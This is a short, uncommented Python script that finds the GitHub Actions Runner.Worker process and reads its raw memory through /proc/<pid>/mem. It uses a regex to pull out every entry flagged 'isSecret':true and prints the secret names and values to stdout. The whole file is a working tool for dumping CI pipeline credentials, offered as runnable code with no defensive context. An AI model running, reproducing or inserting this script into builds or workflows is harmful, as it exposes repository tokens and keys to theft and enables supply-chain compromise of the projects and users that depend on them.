#!/usr/bin/env python3
import os
import re
import sys


def find_worker():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"Runner.Worker" in f.read():
                    return int(pid)
        except OSError:
            continue
    return None


def regions(pid):
    with open(f"/proc/{pid}/maps") as f:
        for line in f:
            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) (r[-w][-x]p)", line)
            if m:
                yield int(m.group(1), 16), int(m.group(2), 16)


def main():
    pid = find_worker()
    if not pid:
        return
    pat = re.compile(rb'"[^"]+":\{"value":"[^"]*","isSecret":true\}')
    seen = set()
    with open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for start, end in regions(pid):
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            for hit in pat.findall(chunk):
                if hit not in seen:
                    seen.add(hit)
                    sys.stdout.write(hit.decode("utf-8", "replace") + "\n")


if __name__ == "__main__":
    main()
